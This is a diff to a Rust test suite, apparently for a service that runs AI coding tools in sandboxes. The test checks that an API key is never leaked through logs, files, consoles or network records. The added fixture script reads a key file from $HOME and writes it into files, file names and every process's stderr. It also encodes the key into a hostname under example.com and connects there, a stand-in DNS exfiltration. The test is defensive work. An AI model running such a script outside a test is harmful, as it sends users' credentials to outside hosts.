@@ -1,6 +1,6 @@
 //! Secrets stay put: whatever a tool shows of its own, nothing of it is told, stored, logged or left anywhere.
 
-use super::{answer, blocking, over, standin};
+use super::{answer, blocking, network, over, standin};
 use crate::support::{
     canaries::{Canaries, Lookout},
     server::{Server, text},
@@ -58,13 +58,16 @@ const TOOLS: [Tool; 3] = [
 const SEEN: &str = "a-lookout-that-looks-sees-this";
 
 /// Shows the file in every way there is: as what a tool of the tool's own says, which the model then repeats, in pieces;
-/// on the tool's standard error; in a file that is kept, and in the name of one. It is one line, however it was written.
+/// on the tool's standard error; in a file that is kept, in the name of one, and in that of a host. It is one line, however it was written.
 fn show(file: &str) -> String {
+    let connect = network::connect("$name:443");
     format!(
         r#"
         shown=$(tr -d ' \n' < "$HOME/{file}")
         echo "$shown" > left.txt
         [ ${{#shown}} -gt 200 ] || : > "named-$(echo "$shown" | tr -dc 'A-Za-z0-9_=-')"
+        name=$(echo "$shown" | tr -dc 'A-Za-z0-9_-' | tail -c 63).example.com
+        {{ {connect}; }} >/dev/null
         for p in /proc/[0-9]*; do echo "$shown" > $p/fd/2; done 2>/dev/null
         SEEN={SEEN} sleep 1 && echo "$shown" && echo {SEEN}
         "#
@@ -119,7 +122,7 @@ async fn connect(server: Server, name: &'static str, way: &'static str, secret: 
 /// Lets the tool show what is in this file, and looks at all that is told of it: `before` stands before a secret.
 async fn shown(server: &Server, tool: &Tool, file: &str, before: &str, canaries: &Canaries) {
     let script = json!({ "path": "show.sh", "content_base64": BASE64_STANDARD.encode(show(file)) });
-    let prompt = format!("use tool: SEEN={SEEN} sh show.sh {SEEN}");
+    let prompt = format!("use tool: SEEN={SEEN} bash show.sh {SEEN}");
     let body = json!({ "provider": tool.name, "prompt": prompt, "files": [script] });
     let run: Value = server.request(Method::POST, "/runs").json(&body).send().await.unwrap().json().await.unwrap();
     let (run, events) = over(server, run["id"].as_str().unwrap()).await;
@@ -162,6 +165,10 @@ async fn shown(server: &Server, tool: &Tool, file: &str, before: &str, canaries:
     let console = text(&get(format!("/sandboxes/{}/console", sandbox.unwrap())).await);
     assert!(console.contains(&redacted), "{name}: {console}");
 
+    // The name of a host: a key fits into it, which is all that codex has there besides.
+    let network = text(&get(format!("/runs/{id}/network")).await);
+    assert!(file != tool.key_file || left.len() >= 200 || network.contains("[redacted]"), "{name}: {network}");
+
     // Nor anywhere else.
     let mut told = serde_json::to_vec(&(&run, &events)).unwrap();
     for path in ["/runs", "/connections", "/sandboxes", &format!("/runs/{id}/files"), "/status", "/me"] {
@@ -169,6 +176,7 @@ async fn shown(server: &Server, tool: &Tool, file: &str, before: &str, canaries:
     }
     told.extend(left.as_bytes());
     told.extend(console.as_bytes());
+    told.extend(network.as_bytes());
     assert_eq!(canaries.in_bytes(&told), [""; 0], "{name}: {run}");
 }
 
@@ -187,6 +195,8 @@ async fn an_api_key_is_told_nowhere() {
     for tool in &TOOLS {
         let key = format!("{}{:032x}", tool.key_starts, rand());
         canaries.add(&key);
+        // As names of hosts are written.
+        canaries.add(&key.to_lowercase());
         server = connect(server, tool.name, "--api-key-stdin", key).await;
         let lookout = Lookout::start(canaries.clone(), SEEN);
         shown(&server, tool, tool.key_file, tool.before_key, &canaries).await;
